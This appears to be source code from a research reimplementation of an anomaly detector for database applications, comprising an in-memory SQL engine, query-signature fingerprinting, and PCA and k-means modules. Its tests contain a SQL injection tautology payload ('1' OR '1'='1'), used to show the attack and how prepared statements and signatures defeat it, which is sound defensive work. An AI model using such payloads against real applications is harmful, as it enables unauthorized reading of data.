                where_clause,
            } => {
                let t = self.table_mut(table)?;
                let n = exec_delete(t, where_clause.as_ref(), params)?;
                Ok(QueryResult::Affected(n))
            }
        }
    }

    fn table_ref(&self, name: &str) -> Result<&Table, DbError> {
        self.tables
            .get(&*normalize(name))
            .ok_or_else(|| DbError::UnknownTable(name.to_string()))
    }

    fn table_mut(&mut self, name: &str) -> Result<&mut Table, DbError> {
        self.tables
            .get_mut(&*normalize(name))
            .ok_or_else(|| DbError::UnknownTable(name.to_string()))
    }
}

/// Case-folds a table name, borrowing when it is already lowercase (the
/// common case on the per-statement lookup path).
fn normalize(name: &str) -> std::borrow::Cow<'_, str> {
    if name.bytes().any(|b| b.is_ascii_uppercase()) {
        std::borrow::Cow::Owned(name.to_ascii_lowercase())
    } else {
        std::borrow::Cow::Borrowed(name)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_db() -> Database {
        let mut db = Database::new("test");
        db.execute("CREATE TABLE clients (id INT, name TEXT, balance FLOAT)")
            .unwrap();
        db.execute(
            "INSERT INTO clients VALUES (105, 'alice', 10.5), (106, 'bob', 20.0), (107, 'carol', 0.0)",
        )
        .unwrap();
        db
    }

    #[test]
    fn select_by_id_returns_one_row() {
        let mut db = sample_db();
        let result = db.execute("SELECT * FROM clients where id='105'").unwrap();
        assert_eq!(result.rows().unwrap().ntuples(), 1);
    }

    #[test]
    fn tautology_injection_returns_all_rows() {
        // Fig. 2: the injected tautology must flip selectivity from 1 to N.
        let mut db = sample_db();
        let result = db
            .execute("SELECT * FROM clients where id='1' OR '1'='1'")
            .unwrap();
        assert_eq!(result.rows().unwrap().ntuples(), 3);
    }

    #[test]
    fn prepared_statement_defeats_injection() {
        // The same payload bound as a parameter matches nothing.
        let mut db = sample_db();
        db.prepare("get_client", "SELECT * FROM clients WHERE id = $1")
            .unwrap();
        let result = db
            .execute_prepared("get_client", &[Value::Text("1' OR '1'='1".into())])
            .unwrap();
        assert_eq!(result.rows().unwrap().ntuples(), 0);
        let result = db
            .execute_prepared("get_client", &[Value::Text("105".into())])
            .unwrap();
        assert_eq!(result.rows().unwrap().ntuples(), 1);
    }

    #[test]
    fn update_and_delete_affect_counts() {
        let mut db = sample_db();
        let r = db
            .execute("UPDATE clients SET balance = balance + 5 WHERE balance < 15")
            .unwrap();
        assert_eq!(r, QueryResult::Affected(2));
        let r = db
            .execute("DELETE FROM clients WHERE name LIKE 'b%'")
            .unwrap();
        assert_eq!(r, QueryResult::Affected(1));
        assert_eq!(db.table("clients").unwrap().row_count(), 2);
    }

    #[test]
    fn count_star_with_predicate() {
        let mut db = sample_db();
        let r = db
            .execute("SELECT COUNT(*) FROM clients WHERE balance > 5")
            .unwrap();
        assert_eq!(r.rows().unwrap().get_value(0, 0).unwrap(), "2");
    }

    #[test]
    fn aggregates_sum_avg_min_max() {
        let mut db = sample_db();
        let r = db
            .execute("SELECT SUM(id), MIN(id), MAX(id), AVG(balance) FROM clients")
            .unwrap();
        let rs = r.rows().unwrap().clone();
        assert_eq!(rs.get_value(0, 0).unwrap(), "318");
        assert_eq!(rs.get_value(0, 1).unwrap(), "105");
        assert_eq!(rs.get_value(0, 2).unwrap(), "107");
        let avg: f64 = rs.get_value(0, 3).unwrap().parse().unwrap();
        assert!((avg - 10.166_666).abs() < 1e-3);
    }

    #[test]
    fn order_by_and_limit() {
        let mut db = sample_db();
        let r = db
            .execute("SELECT name FROM clients ORDER BY balance DESC LIMIT 2")
            .unwrap();
        let rs = r.rows().unwrap().clone();
        assert_eq!(rs.get_value(0, 0).unwrap(), "bob");
        assert_eq!(rs.get_value(1, 0).unwrap(), "alice");
    }

    #[test]
    fn result_cache_sees_writes() {
        // A cached SELECT must not survive a write that changes its answer.
        let mut db = sample_db();
        let q = "SELECT COUNT(*) FROM clients WHERE balance > 5";
        assert_eq!(
            db.execute(q)
                .unwrap()
                .rows()
                .unwrap()
                .get_value(0, 0)
                .unwrap(),
            "2"
        );
        assert_eq!(
            db.execute(q)
                .unwrap()
                .rows()
                .unwrap()
                .get_value(0, 0)
                .unwrap(),
            "2"
        );
        db.execute("UPDATE clients SET balance = 100 WHERE name = 'carol'")
            .unwrap();
        assert_eq!(
            db.execute(q)
                .unwrap()
                .rows()
                .unwrap()
                .get_value(0, 0)
                .unwrap(),
            "3"
        );
    }

    #[test]
    fn diverged_clones_do_not_share_cached_results() {
        // Two clones of one prototype share the cache; once their write
        // histories diverge, their version chains diverge, so the same
        // query text must hit separate entries.
        let proto = sample_db();
        let mut a = proto.clone();
        let mut b = proto.clone();
        a.execute("UPDATE clients SET balance = 1 WHERE id = 105")
            .unwrap();
        b.execute("UPDATE clients SET balance = 2 WHERE id = 105")
            .unwrap();
        let q = "SELECT balance FROM clients WHERE id = 105";
        assert_eq!(
            a.execute(q)
                .unwrap()
                .rows()
                .unwrap()
                .get_value(0, 0)
                .unwrap(),
            "1"
        );
        assert_eq!(
            b.execute(q)
                .unwrap()
                .rows()
                .unwrap()
                .get_value(0, 0)
                .unwrap(),
            "2"
        );
        // Identical replays, by contrast, re-reach the same version and do
        // share: a fresh clone replaying a's statements answers from cache.
        let mut c = proto.clone();
        c.execute("UPDATE clients SET balance = 1 WHERE id = 105")
            .unwrap();
        assert_eq!(
            c.execute(q)
                .unwrap()
                .rows()
                .unwrap()
                .get_value(0, 0)
                .unwrap(),
            "1"
        );
    }

    #[test]
    fn direct_execute_stmt_writes_invalidate_cached_selects() {
        // The public parsed-statement path has no stable statement identity;
        // its writes must still invalidate prior cached SELECTs.
        let mut db = sample_db();
        let q = "SELECT COUNT(*) FROM clients";
        assert_eq!(
            db.execute(q)
                .unwrap()
                .rows()
                .unwrap()
                .get_value(0, 0)
                .unwrap(),
            "3"
        );
        let stmt = parse_sql("DELETE FROM clients WHERE id = 105").unwrap();
        db.execute_stmt(&stmt, &[]).unwrap();
        assert_eq!(
            db.execute(q)
                .unwrap()
                .rows()
                .unwrap()
                .get_value(0, 0)
                .unwrap(),
            "2"
        );
    }

    #[test]
    fn errors_for_unknown_objects() {
        let mut db = sample_db();
        assert!(matches!(
            db.execute("SELECT * FROM missing"),
            Err(DbError::UnknownTable(_))
        ));
        assert!(matches!(
            db.execute("SELECT nope FROM clients"),
            Err(DbError::UnknownColumn(_))
        ));
        assert!(matches!(
            db.execute("CREATE TABLE clients (id INT)"),
            Err(DbError::TableExists(_))
        ));
    }

    #[test]
    fn insert_with_column_list_fills_nulls() {
        let mut db = sample_db();
        db.execute("INSERT INTO clients (id) VALUES (200)").unwrap();
        let r = db
            .execute("SELECT name FROM clients WHERE id = 200")
            .unwrap();
        assert_eq!(r.rows().unwrap().get_value(0, 0).unwrap(), "NULL");
    }

    #[test]
    fn null_predicates() {
        let mut db = sample_db();
        db.execute("INSERT INTO clients (id) VALUES (200)").unwrap();
        let r = db
            .execute("SELECT COUNT(*) FROM clients WHERE name IS NULL")
            .unwrap();
        assert_eq!(r.rows().unwrap().get_value(0, 0).unwrap(), "1");
        // NULL comparisons never match.
        let r = db
            .execute("SELECT COUNT(*) FROM clients WHERE name = 'x' OR balance IS NOT NULL")
            .unwrap();
        assert_eq!(r.rows().unwrap().get_value(0, 0).unwrap(), "3");
    }
}
