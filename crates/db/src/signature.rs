//! Query signatures (fingerprints) — the §VII mitigation for the
//! selectivity-mimicry evasion.
//!
//! The paper notes that an attacker who knows only call sequences are
//! profiled "can issue new queries with similar selectivity to avoid
//! changing the call sequences", and that "recording queries signatures
//! along with library calls can mitigate this case". A signature is the
//! statement skeleton with every literal and parameter replaced by `?`:
//! two queries share a signature iff they differ only in constants.

use crate::sql::{Aggregate, Order, Projection, SqlExpr, SqlScalar, SqlStmt};

/// Computes the signature of a SQL statement text. Unparseable statements
/// get a token-level fallback so the collector never fails on attacker
/// input.
pub fn query_signature(sql: &str) -> String {
    match crate::sql::parse_sql(sql) {
        Ok(stmt) => stmt_signature(&stmt),
        Err(_) => fallback_signature(sql),
    }
}

/// Signature of a parsed statement.
pub fn stmt_signature(stmt: &SqlStmt) -> String {
    match stmt {
        SqlStmt::CreateTable { name, columns } => {
            format!("CREATE TABLE {}({})", low(name), columns.len())
        }
        SqlStmt::DropTable { name } => format!("DROP TABLE {}", low(name)),
        SqlStmt::Insert {
            table,
            columns,
            rows,
        } => {
            let cols = match columns {
                None => "*".to_string(),
                Some(cols) => cols.iter().map(|c| low(c)).collect::<Vec<_>>().join(","),
            };
            format!(
                "INSERT {} ({cols}) VALUES {}x{}",
                low(table),
                rows.first().map_or(0, Vec::len),
                rows.len()
            )
        }
        SqlStmt::Select {
            projection,
            table,
            where_clause,
            order_by,
            limit,
        } => {
            let mut out = format!(
                "SELECT {} FROM {}",
                projection_signature(projection),
                low(table)
            );
            if let Some(w) = where_clause {
                out.push_str(" WHERE ");
                out.push_str(&expr_signature(w));
            }
            if let Some((col, dir)) = order_by {
                out.push_str(" ORDER BY ");
                out.push_str(&low(col));
                out.push_str(match dir {
                    Order::Asc => " ASC",
                    Order::Desc => " DESC",
                });
            }
            if limit.is_some() {
                out.push_str(" LIMIT ?");
            }
            out
        }
        SqlStmt::Update {
            table,
            sets,
            where_clause,
        } => {
            let cols: Vec<String> = sets
                .iter()
                .map(|(c, e)| format!("{}={}", low(c), expr_signature(e)))
                .collect();
            let mut out = format!("UPDATE {} SET {}", low(table), cols.join(","));
            if let Some(w) = where_clause {
                out.push_str(" WHERE ");
                out.push_str(&expr_signature(w));
            }
            out
        }
        SqlStmt::Delete {
            table,
            where_clause,
        } => {
            let mut out = format!("DELETE FROM {}", low(table));
            if let Some(w) = where_clause {
                out.push_str(" WHERE ");
                out.push_str(&expr_signature(w));
            }
            out
        }
    }
}

fn projection_signature(p: &Projection) -> String {
    match p {
        Projection::Star => "*".to_string(),
        Projection::Columns(cols) => cols.iter().map(|c| low(c)).collect::<Vec<_>>().join(","),
        Projection::Aggregates(aggs) => aggs
            .iter()
            .map(|a| match a {
                Aggregate::CountStar => "COUNT(*)".to_string(),
                Aggregate::Count(c) => format!("COUNT({})", low(c)),
                Aggregate::Sum(c) => format!("SUM({})", low(c)),
                Aggregate::Avg(c) => format!("AVG({})", low(c)),
                Aggregate::Min(c) => format!("MIN({})", low(c)),
                Aggregate::Max(c) => format!("MAX({})", low(c)),
            })
            .collect::<Vec<_>>()
            .join(","),
    }
}

fn expr_signature(e: &SqlExpr) -> String {
    match e {
        SqlExpr::Scalar(SqlScalar::Literal(_)) | SqlExpr::Scalar(SqlScalar::Param(_)) => {
            "?".to_string()
        }
        SqlExpr::Column(c) => low(c),
        SqlExpr::Cmp(op, a, b) => {
            let sym = match op {
                crate::sql::CmpOp::Eq => "=",
                crate::sql::CmpOp::Ne => "!=",
                crate::sql::CmpOp::Lt => "<",
                crate::sql::CmpOp::Le => "<=",
                crate::sql::CmpOp::Gt => ">",
                crate::sql::CmpOp::Ge => ">=",
            };
            format!("{}{}{}", expr_signature(a), sym, expr_signature(b))
        }
        SqlExpr::And(a, b) => format!("({} AND {})", expr_signature(a), expr_signature(b)),
        SqlExpr::Or(a, b) => format!("({} OR {})", expr_signature(a), expr_signature(b)),
        SqlExpr::Not(a) => format!("NOT {}", expr_signature(a)),
        SqlExpr::Like(a, b) => format!("{} LIKE {}", expr_signature(a), expr_signature(b)),
        SqlExpr::IsNull(a, negated) => format!(
            "{} IS {}NULL",
            expr_signature(a),
            if *negated { "NOT " } else { "" }
        ),
        SqlExpr::Arith(op, a, b) => {
            let sym = match op {
                crate::sql::ArithOp::Add => "+",
                crate::sql::ArithOp::Sub => "-",
                crate::sql::ArithOp::Mul => "*",
                crate::sql::ArithOp::Div => "/",
            };
            format!("{}{}{}", expr_signature(a), sym, expr_signature(b))
        }
    }
}

/// Token-level fallback: uppercase keywords, strip string/number literals.
fn fallback_signature(sql: &str) -> String {
    let mut out = String::with_capacity(sql.len());
    let mut chars = sql.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                // Skip the literal (with '' escapes).
                loop {
                    match chars.next() {
                        None => break,
                        Some('\'') => {
                            if chars.peek() == Some(&'\'') {
                                chars.next();
                            } else {
                                break;
                            }
                        }
                        Some(_) => {}
                    }
                }
                out.push('?');
            }
            c if c.is_ascii_digit() => {
                while chars
                    .peek()
                    .is_some_and(|c| c.is_ascii_digit() || *c == '.')
                {
                    chars.next();
                }
                out.push('?');
            }
            c if c.is_whitespace() => {
                if !out.ends_with(' ') {
                    out.push(' ');
                }
            }
            c => out.push(c.to_ascii_lowercase()),
        }
    }
    format!("~{}", out.trim())
}

fn low(s: &str) -> String {
    s.to_ascii_lowercase()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn constants_do_not_affect_signature() {
        let a = query_signature("SELECT * FROM clients WHERE id = 105");
        let b = query_signature("SELECT * FROM clients WHERE id = 999");
        assert_eq!(a, b);
        assert_eq!(a, "SELECT * FROM clients WHERE id=?");
    }

    #[test]
    fn structure_changes_signature() {
        let point = query_signature("SELECT * FROM clients WHERE id = '105'");
        let tautology = query_signature("SELECT * FROM clients WHERE id='1' OR '1'='1'");
        assert_ne!(point, tautology, "the injected OR changes the skeleton");
        assert!(tautology.contains("OR"));
    }

    #[test]
    fn params_and_literals_look_alike() {
        let lit = query_signature("SELECT name FROM t WHERE id = 5");
        let param = query_signature("SELECT name FROM t WHERE id = $1");
        assert_eq!(lit, param);
    }

    #[test]
    fn case_is_normalized() {
        assert_eq!(
            query_signature("select * from Clients where ID = 1"),
            query_signature("SELECT * FROM clients WHERE id = 2")
        );
    }

    #[test]
    fn fallback_handles_garbage() {
        let sig = query_signature("SELEKT broken 'abc' 42");
        assert!(sig.starts_with('~'));
        assert!(!sig.contains("abc"));
        assert!(!sig.contains("42"));
    }

    #[test]
    fn update_and_delete_signatures() {
        assert_eq!(
            query_signature("UPDATE t SET a = 5 WHERE b > 2"),
            query_signature("UPDATE t SET a = 9 WHERE b > 7")
        );
        assert_ne!(
            query_signature("DELETE FROM t WHERE a = 1"),
            query_signature("DELETE FROM t")
        );
    }
}
