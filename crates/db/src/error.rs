//! Database error type.

use std::fmt;

/// Errors produced by the database engine.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DbError {
    /// SQL text failed to parse.
    Syntax(String),
    /// Referenced table does not exist.
    UnknownTable(String),
    /// Table already exists.
    TableExists(String),
    /// Referenced column does not exist.
    UnknownColumn(String),
    /// Two columns share a name.
    DuplicateColumn(String),
    /// Row width does not match the schema.
    ArityMismatch {
        /// Schema width.
        expected: usize,
        /// Supplied width.
        found: usize,
    },
    /// A value is not storable in its column.
    TypeMismatch {
        /// Target column.
        column: String,
        /// Rendered offending value.
        value: String,
    },
    /// A prepared-statement parameter index is out of range.
    MissingParam(usize),
    /// Statement kind not usable in this context (e.g. executing DDL through
    /// a row-returning API).
    Unsupported(String),
}

impl fmt::Display for DbError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DbError::Syntax(msg) => write!(f, "syntax error: {msg}"),
            DbError::UnknownTable(t) => write!(f, "unknown table `{t}`"),
            DbError::TableExists(t) => write!(f, "table `{t}` already exists"),
            DbError::UnknownColumn(c) => write!(f, "unknown column `{c}`"),
            DbError::DuplicateColumn(c) => write!(f, "duplicate column `{c}`"),
            DbError::ArityMismatch { expected, found } => {
                write!(f, "expected {expected} values, found {found}")
            }
            DbError::TypeMismatch { column, value } => {
                write!(f, "value `{value}` not valid for column `{column}`")
            }
            DbError::MissingParam(i) => write!(f, "missing parameter ${i}"),
            DbError::Unsupported(what) => write!(f, "unsupported here: {what}"),
        }
    }
}

impl std::error::Error for DbError {}
