//! # adprom-db
//!
//! An in-memory relational database engine: the substrate standing in for
//! the PostgreSQL / MySQL servers the AD-PROM paper's client applications
//! talk to. Queries really parse and execute, so *query selectivity drives
//! result-set size* — the signal that turns the paper's SQL-injection and
//! query-modification attacks into observable call-sequence changes.
//!
//! Supported SQL: `CREATE TABLE`, `DROP TABLE`, `INSERT`, `SELECT`
//! (column/`*`/aggregate projections, `WHERE`, `ORDER BY`, `LIMIT`),
//! `UPDATE`, `DELETE`, and named prepared statements with `$n`/`?`
//! parameters.

#![warn(missing_docs)]

pub mod db;
pub mod error;
pub mod exec;
pub mod schema;
pub mod signature;
pub mod sql;
pub mod table;
pub mod value;

pub use db::Database;
pub use error::DbError;
pub use exec::{QueryResult, ResultSet};
pub use schema::{schema, Column, ColumnType, Schema};
pub use signature::{query_signature, stmt_signature};
pub use table::Table;
pub use value::Value;
