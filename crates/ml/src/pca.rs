//! Principal component analysis via cyclic Jacobi eigendecomposition.
//!
//! The Profile Constructor uses PCA to shrink the sparse call-transition
//! vectors (CTVs) before k-means clustering (§IV-C4), cutting training time
//! for programs with many hidden states.

use crate::matrix::Matrix;

/// A fitted PCA transform.
#[derive(Debug, Clone)]
pub struct Pca {
    /// Column means of the training data (subtracted before projection).
    pub means: Vec<f64>,
    /// Principal components (rows), ordered by decreasing eigenvalue.
    pub components: Matrix,
    /// Eigenvalues (variances along each component), decreasing.
    pub eigenvalues: Vec<f64>,
}

impl Pca {
    /// Fits PCA keeping enough components to explain `variance_keep`
    /// (0 < v ≤ 1) of the total variance, with at least one component.
    pub fn fit(data: &Matrix, variance_keep: f64) -> Pca {
        assert!(
            variance_keep > 0.0 && variance_keep <= 1.0,
            "variance_keep in (0,1]"
        );
        let cov = data.covariance();
        let (eigenvalues, eigenvectors) = jacobi_eigen(&cov, 200, 1e-12);
        // Sort by decreasing eigenvalue.
        let mut order: Vec<usize> = (0..eigenvalues.len()).collect();
        order.sort_by(|&a, &b| {
            eigenvalues[b]
                .partial_cmp(&eigenvalues[a])
                .unwrap_or(std::cmp::Ordering::Equal)
        });
        let total: f64 = eigenvalues.iter().map(|v| v.max(0.0)).sum();
        let mut kept = Vec::new();
        let mut acc = 0.0;
        for &i in &order {
            kept.push(i);
            acc += eigenvalues[i].max(0.0);
            if total > 0.0 && acc / total >= variance_keep {
                break;
            }
        }
        if kept.is_empty() {
            kept.push(0);
        }
        let mut components = Matrix::zeros(kept.len(), cov.cols());
        for (r, &i) in kept.iter().enumerate() {
            for c in 0..cov.cols() {
                components[(r, c)] = eigenvectors[(c, i)];
            }
        }
        Pca {
            means: data.column_means(),
            eigenvalues: kept.iter().map(|&i| eigenvalues[i]).collect(),
            components,
        }
    }

    /// Number of retained components.
    pub fn n_components(&self) -> usize {
        self.components.rows()
    }

    /// Projects data rows into the component space.
    pub fn transform(&self, data: &Matrix) -> Matrix {
        let mut out = Matrix::zeros(data.rows(), self.n_components());
        for r in 0..data.rows() {
            for k in 0..self.n_components() {
                let mut acc = 0.0;
                for c in 0..data.cols() {
                    acc += (data[(r, c)] - self.means[c]) * self.components[(k, c)];
                }
                out[(r, k)] = acc;
            }
        }
        out
    }
}

impl Pca {
    /// Fits a truncated PCA via subspace (block power) iteration — the
    /// large-input path: exact Jacobi on a d×d covariance is O(d³), which
    /// at bash scale (CTVs of dimension 2·1366) is prohibitive. The
    /// covariance is never materialized; each iteration multiplies the
    /// centered data matrix and its transpose against the current basis,
    /// O(rows·dims·k).
    pub fn fit_truncated(data: &Matrix, k: usize, iterations: usize, seed: u64) -> Pca {
        let rows = data.rows();
        let dims = data.cols();
        let k = k.clamp(1, dims.min(rows.max(1)));
        let means = data.column_means();

        // Deterministic pseudo-random initial basis (xorshift — no rand
        // dependency in this crate's hot path beyond what k-means uses).
        let mut state = seed | 1;
        let mut next = move || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 11) as f64 / (1u64 << 53) as f64 - 0.5
        };
        let mut basis: Vec<Vec<f64>> = (0..k)
            .map(|_| (0..dims).map(|_| next()).collect())
            .collect();
        orthonormalize(&mut basis);

        // y = X_cᵀ (X_c q), with X_c the centered data.
        let apply = |q: &[f64]| -> Vec<f64> {
            let mut projected = vec![0.0f64; rows];
            for (r, p) in projected.iter_mut().enumerate() {
                let row = data.row(r);
                let mut acc = 0.0;
                for (c, &qc) in q.iter().enumerate() {
                    acc += (row[c] - means[c]) * qc;
                }
                *p = acc;
            }
            let mut out = vec![0.0f64; dims];
            for (r, &p) in projected.iter().enumerate() {
                if p == 0.0 {
                    continue;
                }
                let row = data.row(r);
                for (c, o) in out.iter_mut().enumerate() {
                    *o += (row[c] - means[c]) * p;
                }
            }
            out
        };

        let denom = if rows > 1 { (rows - 1) as f64 } else { 1.0 };
        let mut eigenvalues = vec![0.0f64; k];
        for _ in 0..iterations.max(1) {
            let mut new_basis: Vec<Vec<f64>> = basis.iter().map(|q| apply(q)).collect();
            for (v, e) in new_basis.iter().zip(eigenvalues.iter_mut()) {
                let norm: f64 = v.iter().map(|x| x * x).sum::<f64>().sqrt();
                *e = norm / denom;
            }
            orthonormalize(&mut new_basis);
            basis = new_basis;
        }

        // Order by decreasing Rayleigh quotient estimate.
        let mut order: Vec<usize> = (0..k).collect();
        order.sort_by(|&a, &b| {
            eigenvalues[b]
                .partial_cmp(&eigenvalues[a])
                .unwrap_or(std::cmp::Ordering::Equal)
        });
        let mut components = Matrix::zeros(k, dims);
        for (r, &i) in order.iter().enumerate() {
            for c in 0..dims {
                components[(r, c)] = basis[i][c];
            }
        }
        Pca {
            means,
            eigenvalues: order.iter().map(|&i| eigenvalues[i]).collect(),
            components,
        }
    }
}

/// In-place modified Gram–Schmidt; zero vectors are replaced by unit axes.
fn orthonormalize(vectors: &mut [Vec<f64>]) {
    let dims = vectors.first().map_or(0, Vec::len);
    for i in 0..vectors.len() {
        for j in 0..i {
            let dot: f64 = vectors[i].iter().zip(&vectors[j]).map(|(a, b)| a * b).sum();
            let (head, tail) = vectors.split_at_mut(i);
            for (a, b) in tail[0].iter_mut().zip(&head[j]) {
                *a -= dot * b;
            }
        }
        let norm: f64 = vectors[i].iter().map(|x| x * x).sum::<f64>().sqrt();
        if norm > 1e-12 {
            for x in vectors[i].iter_mut() {
                *x /= norm;
            }
        } else if dims > 0 {
            for (c, x) in vectors[i].iter_mut().enumerate() {
                *x = if c == i % dims { 1.0 } else { 0.0 };
            }
        }
    }
}

/// Jacobi eigendecomposition of a symmetric matrix. Returns (eigenvalues,
/// eigenvector matrix with eigenvectors in columns).
pub fn jacobi_eigen(sym: &Matrix, max_sweeps: usize, tol: f64) -> (Vec<f64>, Matrix) {
    let n = sym.rows();
    assert_eq!(n, sym.cols(), "matrix must be square");
    let mut a = sym.clone();
    let mut v = Matrix::identity(n);

    for _ in 0..max_sweeps {
        let Some((p, q, max_off)) = a.max_off_diagonal() else {
            break;
        };
        if max_off < tol {
            break;
        }
        let app = a[(p, p)];
        let aqq = a[(q, q)];
        let apq = a[(p, q)];
        // Rotation angle.
        let theta = 0.5 * (aqq - app) / apq;
        let t = if theta >= 0.0 {
            1.0 / (theta + (1.0 + theta * theta).sqrt())
        } else {
            -1.0 / (-theta + (1.0 + theta * theta).sqrt())
        };
        let c = 1.0 / (1.0 + t * t).sqrt();
        let s = t * c;

        // Apply rotation to A (both sides) and accumulate in V.
        for k in 0..n {
            let akp = a[(k, p)];
            let akq = a[(k, q)];
            a[(k, p)] = c * akp - s * akq;
            a[(k, q)] = s * akp + c * akq;
        }
        for k in 0..n {
            let apk = a[(p, k)];
            let aqk = a[(q, k)];
            a[(p, k)] = c * apk - s * aqk;
            a[(q, k)] = s * apk + c * aqk;
        }
        for k in 0..n {
            let vkp = v[(k, p)];
            let vkq = v[(k, q)];
            v[(k, p)] = c * vkp - s * vkq;
            v[(k, q)] = s * vkp + c * vkq;
        }
    }
    let eigenvalues: Vec<f64> = (0..n).map(|i| a[(i, i)]).collect();
    (eigenvalues, v)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn jacobi_diagonalizes_known_matrix() {
        // [[2,1],[1,2]] has eigenvalues 3 and 1.
        let m = Matrix::from_rows(&[vec![2.0, 1.0], vec![1.0, 2.0]]);
        let (mut vals, _) = jacobi_eigen(&m, 100, 1e-14);
        vals.sort_by(|a, b| b.partial_cmp(a).unwrap());
        assert!((vals[0] - 3.0).abs() < 1e-9);
        assert!((vals[1] - 1.0).abs() < 1e-9);
    }

    #[test]
    fn jacobi_eigenvectors_satisfy_definition() {
        let m = Matrix::from_rows(&[
            vec![4.0, 1.0, 0.0],
            vec![1.0, 3.0, 1.0],
            vec![0.0, 1.0, 2.0],
        ]);
        let (vals, vecs) = jacobi_eigen(&m, 200, 1e-14);
        for i in 0..3 {
            // ‖A·v − λ·v‖ ≈ 0.
            for r in 0..3 {
                let av: f64 = (0..3).map(|c| m[(r, c)] * vecs[(c, i)]).sum();
                assert!((av - vals[i] * vecs[(r, i)]).abs() < 1e-8);
            }
        }
    }

    #[test]
    fn pca_finds_dominant_direction() {
        // Points along y = 2x with small noise: first component dominates.
        let rows: Vec<Vec<f64>> = (0..50)
            .map(|i| {
                let x = i as f64 / 10.0;
                vec![x, 2.0 * x + if i % 2 == 0 { 0.01 } else { -0.01 }]
            })
            .collect();
        let data = Matrix::from_rows(&rows);
        let pca = Pca::fit(&data, 0.99);
        assert_eq!(pca.n_components(), 1);
        // Component direction ∝ (1, 2)/√5.
        let c = pca.components.row(0);
        let ratio = (c[1] / c[0]).abs();
        assert!((ratio - 2.0).abs() < 0.05, "ratio {ratio}");
    }

    #[test]
    fn pca_transform_reduces_dimension() {
        let rows: Vec<Vec<f64>> = (0..30)
            .map(|i| {
                let x = i as f64;
                vec![x, -x, 2.0 * x, 0.5]
            })
            .collect();
        let data = Matrix::from_rows(&rows);
        let pca = Pca::fit(&data, 0.95);
        let reduced = pca.transform(&data);
        assert!(pca.n_components() < 4);
        assert_eq!(reduced.rows(), 30);
        assert_eq!(reduced.cols(), pca.n_components());
    }

    #[test]
    fn truncated_pca_matches_jacobi_on_small_data() {
        // Dominant direction of a two-column correlated set.
        let rows: Vec<Vec<f64>> = (0..60)
            .map(|i| {
                let x = i as f64 / 7.0;
                vec![x, 2.0 * x + if i % 2 == 0 { 0.02 } else { -0.02 }, 0.5]
            })
            .collect();
        let data = Matrix::from_rows(&rows);
        let exact = Pca::fit(&data, 0.999);
        let trunc = Pca::fit_truncated(&data, 2, 30, 42);
        // First components agree up to sign.
        let e = exact.components.row(0);
        let t = trunc.components.row(0);
        let dot: f64 = e.iter().zip(t).map(|(a, b)| a * b).sum();
        assert!(dot.abs() > 0.999, "|cos| = {}", dot.abs());
        // Leading eigenvalue estimates agree within a few percent.
        let rel = (exact.eigenvalues[0] - trunc.eigenvalues[0]).abs() / exact.eigenvalues[0];
        assert!(rel < 0.05, "relative error {rel}");
    }

    #[test]
    fn truncated_pca_components_are_orthonormal() {
        let rows: Vec<Vec<f64>> = (0..40)
            .map(|i| (0..10).map(|j| ((i * 7 + j * 3) % 13) as f64).collect())
            .collect();
        let data = Matrix::from_rows(&rows);
        let pca = Pca::fit_truncated(&data, 4, 20, 7);
        for i in 0..4 {
            for j in 0..4 {
                let dot: f64 = pca
                    .components
                    .row(i)
                    .iter()
                    .zip(pca.components.row(j))
                    .map(|(a, b)| a * b)
                    .sum();
                let expect = if i == j { 1.0 } else { 0.0 };
                assert!((dot - expect).abs() < 1e-9, "({i},{j}) dot {dot}");
            }
        }
    }

    #[test]
    fn pca_keep_all_variance() {
        let rows = vec![vec![1.0, 0.0], vec![0.0, 1.0], vec![1.0, 1.0]];
        let data = Matrix::from_rows(&rows);
        let pca = Pca::fit(&data, 1.0);
        assert_eq!(pca.n_components(), 2);
    }
}
