//! # adprom-ml
//!
//! The dimension-reduction substrate of AD-PROM (§IV-C4): a small dense
//! [`matrix`] type, [`pca`] via cyclic Jacobi eigendecomposition, and
//! [`kmeans()`](kmeans::kmeans) with k-means++ seeding. The Profile Constructor uses PCA to
//! compress sparse call-transition vectors and k-means to merge similar
//! calls into shared hidden states when a program has more than ~900
//! states.

#![warn(missing_docs)]

pub mod kmeans;
pub mod matrix;
pub mod pca;

pub use kmeans::{kmeans, KMeans};
pub use matrix::{dist2, Matrix};
pub use pca::{jacobi_eigen, Pca};
