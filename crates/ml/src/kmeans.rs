//! K-means clustering with k-means++ seeding.
//!
//! The Profile Constructor clusters PCA-reduced call-transition vectors so
//! that "system calls that have similar CTVs belonging to the same cluster
//! are associated with the same hidden state" (§IV-C4). The paper runs
//! K-means with K = 0.3·n on bash (1366 → 455 states).

use crate::matrix::{dist2, Matrix};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// K-means result.
#[derive(Debug, Clone)]
pub struct KMeans {
    /// Cluster centroids (k rows).
    pub centroids: Matrix,
    /// Cluster assignment per input row.
    pub assignment: Vec<usize>,
    /// Final within-cluster sum of squares.
    pub inertia: f64,
    /// Iterations until convergence.
    pub iterations: usize,
}

impl KMeans {
    /// Number of clusters actually produced.
    pub fn k(&self) -> usize {
        self.centroids.rows()
    }

    /// Members of each cluster.
    pub fn clusters(&self) -> Vec<Vec<usize>> {
        let mut out = vec![Vec::new(); self.k()];
        for (row, &c) in self.assignment.iter().enumerate() {
            out[c].push(row);
        }
        out
    }
}

/// Runs k-means++ with Lloyd iterations. `k` is clamped to the number of
/// rows; `seed` makes the run deterministic.
#[allow(clippy::needless_range_loop)] // rows index both `data` and `assignment`
pub fn kmeans(data: &Matrix, k: usize, seed: u64, max_iters: usize) -> KMeans {
    let n = data.rows();
    let k = k.clamp(1, n.max(1));
    if n == 0 {
        return KMeans {
            centroids: Matrix::zeros(0, data.cols()),
            assignment: Vec::new(),
            inertia: 0.0,
            iterations: 0,
        };
    }

    let mut rng = StdRng::seed_from_u64(seed);
    let mut centroids = plus_plus_seed(data, k, &mut rng);
    let mut assignment = vec![0usize; n];
    let mut iterations = 0;

    for _ in 0..max_iters {
        iterations += 1;
        // Assign.
        let mut changed = false;
        for r in 0..n {
            let row = data.row(r);
            let mut best = 0usize;
